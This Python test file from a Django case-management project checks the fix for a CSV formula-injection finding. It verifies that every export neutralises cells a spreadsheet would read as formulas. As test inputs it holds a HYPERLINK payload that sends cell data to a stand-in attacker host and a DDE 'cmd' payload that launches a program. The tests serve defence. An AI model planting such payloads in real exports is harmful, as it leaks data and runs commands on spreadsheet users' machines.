"""Finding 6 of the security probe: CSV formula injection in ``/perkara/ekspor.csv``.

A registration number ``=HYPERLINK(...)`` was exported raw, so a spreadsheet opened from the
export would run it; the analytics exports already neutralised formulas. Every CSV export now
goes through one writer (``netral.core.csvexport``) that neutralises cells a spreadsheet would
read as a formula.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse

from netral.cases.models import Case
from netral.cases.tests.helpers import make_case
from netral.testing import PASSWORD

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
ROOT = Path(__file__).resolve().parents[3]


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_the_cases_export_neutralises_a_formula_in_the_registration_number(client: Any, cast: Any) -> None:
    case = make_case(agency=cast.agency_a, name="Asep Banjar")
    Case.objects.filter(pk=case.pk).update(registration_number=PAYLOAD, decree_number="+62 811 000", title="@SUM(1)")
    assert client.login(username=cast.sup_a.username, password=PASSWORD)
    body = b"".join(client.get(reverse("cases:export")).streaming_content).decode()
    header, *rows = _rows(body)
    row = dict(zip(header, rows[0], strict=True))
    assert row["nomor_registrasi"] == "'" + PAYLOAD
    assert row["nomor_keputusan"] == "'+62 811 000"
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_the_analytics_figure_tables_neutralise_labels_too(client: Any, cast: Any) -> None:
    case = make_case(agency=cast.agency_a, name="Asep Banjar")
    cast.agency_a.name = "=cmd|' /C calc'!A0"
    cast.agency_a.save()
    Case.objects.filter(pk=case.pk).update(agency=cast.agency_a)
    assert client.login(username=cast.sup_a.username, password=PASSWORD)
    response = client.get("/statistik/angka/agency.csv")
    assert response.status_code == 200
    cells = [c for r in _rows(b"".join(response.streaming_content).decode()) for c in r]
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(c.startswith("=") for c in cells)


def test_the_import_error_report_neutralises_what_the_uploader_wrote() -> None:
    from netral.personnel import importer

    class Run:
        errors = [{"row": 2, "reason": "@SUM(A1:A9) bukan NIP"}, {"row": 3, "reason": "-2+3"}]

    rows = _rows(importer.errors_csv(Run()))  # type: ignore[arg-type]
    assert rows[1] == ["2", "'@SUM(A1:A9) bukan NIP"]
    assert rows[2] == ["3", "'-2+3"]


def test_there_is_one_csv_writer_for_every_export() -> None:
    """No module of the project writes CSV itself: only ``core/csvexport.py`` calls ``csv.writer``."""
    writers = []
    for path in (ROOT / "netral").rglob("*.py"):
        if "tests" in path.parts or path.name == "csvexport.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            writers.append(str(path.relative_to(ROOT)))
    # The demo registry generator writes an *input* file for the importer, not an export.
    assert writers == ["netral/personnel/generate.py"], writers
